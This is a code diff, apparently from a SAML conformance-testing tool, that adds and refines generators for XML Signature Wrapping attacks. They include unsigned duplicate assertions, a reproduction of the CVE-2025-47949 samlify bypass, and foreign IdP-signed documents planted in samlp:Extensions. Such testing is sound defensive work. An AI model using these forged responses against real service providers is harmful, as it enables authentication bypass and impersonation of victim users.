@@ -126,15 +126,19 @@ for _n, (_make, _desc) in _XSW.items():
     )(_make)
 
 
-@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the signed one",
-                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None)
-def _two_assertions(victim: str | None) -> Fault:
+@register_factory("two-assertions", "A second, unsigned Assertion (ID + '_attack', optional victim NameID) appended after the "
+                  "signed one (first=true: inserted before it, where first-in-document / //Assertion readers pick it)",
+                  ("XSW-11", "XSW-13", "MAS-02", "CVE-2022-41912"), victim=None, first=False)
+def _two_assertions(victim: str | None, first: bool) -> Fault:
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         a = _assertion(root)
         b = _drop_sig(copy.deepcopy(a))
         b.set("ID", a.get("ID") + "_attack")
         _victimize(b, victim)
-        a.addnext(b)
+        if first:
+            a.addprevious(b)
+        else:
+            a.addnext(b)
 
     return Fault("", "", signing=_assertion_signed(), signed=signed)
 
@@ -163,20 +167,27 @@ register_factory("xsw-response-in-response",
 def _xsw_wrapper(victim: str | None) -> Fault:
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         a = _assertion(root)
+        sig = _sig(a)
         evil = _drop_sig(copy.deepcopy(a))
+        evil.set("ID", EVIL_ASSERTION_ID + a.get("ID", ""))
         _victimize(evil, victim)
-        wrapper = etree.Element("{urn:samlconf:decoy}Wrapper", nsmap={"decoy": "urn:samlconf:decoy"})
-        a.addprevious(evil)
+        a.remove(sig)  # the Signature moves to the Response's Signature position ...
+        ext = etree.Element(q(SAMLP, "Extensions"))
         root.remove(a)
-        wrapper.append(a)
-        evil.addnext(wrapper)
+        ext.append(a)  # ... and the signed Assertion is parked in samlp:Extensions (##other: schema-valid)
+        iss = root.find(q(SAML, "Issuer"))
+        iss.addnext(sig)
+        sig.addnext(ext)
+        root.append(evil)  # the Response's only direct-child Assertion: unsigned
 
     return Fault("", "", signing=_assertion_signed(), signed=signed)
 
 
 register_factory("xsw-wrapper",
-                 "The signed Assertion moved into an unknown wrapper element; an unsigned copy (same ID) is the direct child",
-                 ("XSW-12",), victim=None)(_xsw_wrapper)
+                 "CVE-2025-47949 (samlify) shape, schema-valid: the signed Assertion (Signature removed) parked in "
+                 "samlp:Extensions, its Signature moved to the Response's Signature position after Issuer, and an "
+                 "unsigned copy (ID _evil_assertion_ID...; victim optional) as the Response's direct-child Assertion",
+                 ("XSW-12", "CVE-2025-47949", "GHSA-r683-v43c-6xqv", "CVE-2025-46572"), victim=None)(_xsw_wrapper)
 
 
 @register_factory("advice-assertion", "The signed Assertion carries, in saml:Advice, an unsigned Assertion for a victim",
@@ -194,13 +205,33 @@ def _advice(victim: str) -> Fault:
     return Fault("", "", tree=tree)
 
 
+def _wsfed_metadata(ctx: FaultContext) -> etree._Element:
+    """The IdP's WS-Federation metadata (a fed:SecurityTokenServiceType RoleDescriptor), signed with
+    its SAML signing key: public, IdP-signed XML (PortSwigger, SAML roulette)."""
+    from ..signing import sign
+
+    md, fed = "urn:oasis:names:tc:SAML:2.0:metadata", "http://docs.oasis-open.org/wsfed/federation/200706"
+    xsi = "http://www.w3.org/2001/XMLSchema-instance"
+    ed = etree.Element(f"{{{md}}}EntityDescriptor", nsmap={"md": md, "fed": fed, "xsi": xsi})
+    ed.set("ID", new_id())
+    ed.set("entityID", ctx.idp.entity_id)
+    rd = etree.SubElement(ed, f"{{{md}}}RoleDescriptor")
+    rd.set(f"{{{xsi}}}type", "fed:SecurityTokenServiceType")
+    rd.set("protocolSupportEnumeration", fed)
+    pe = etree.SubElement(rd, f"{{{fed}}}PassiveRequestorEndpoint")
+    pe.text = ctx.idp.entity_id
+    sign(ed, ed, ctx.signing.key or ctx.idp.key)
+    return ed
+
+
 @register_factory("xsw-foreign-signed",
                   "Response and Assertion unsigned (victim optional); samlp:Extensions holds a genuine IdP-signed other document "
-                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata)",
+                  "(source=error: a signed error Response; source=metadata: the signed IdP metadata; source=wsfed: the "
+                  "IdP's signed WS-Federation metadata, same key)",
                   ("XSW-14", "XSW-15", "XSW-16"), source="error", victim=None)
 def _foreign(source: str, victim: str | None) -> Fault:
-    if source not in ("error", "metadata"):
-        raise ValueError("source must be error or metadata")
+    if source not in ("error", "metadata", "wsfed"):
+        raise ValueError("source must be error, metadata or wsfed")
 
     def signed(root: etree._Element, ctx: FaultContext) -> None:
         idp = ctx.idp
@@ -211,6 +242,8 @@ def _foreign(source: str, victim: str | None) -> Fault:
             other = build_status_response(issuer=idp.entity_id, destination=ctx.spec.destination,
                                           in_response_to=None, status_code=STATUS_REQUESTER)
             sign(other, other, ctx.signing.key or idp.key)
+        elif source == "wsfed":
+            other = _wsfed_metadata(ctx)
         else:
             other = etree.fromstring(idp.metadata_xml(sign=True))
         ext = etree.Element(q(SAMLP, "Extensions"))
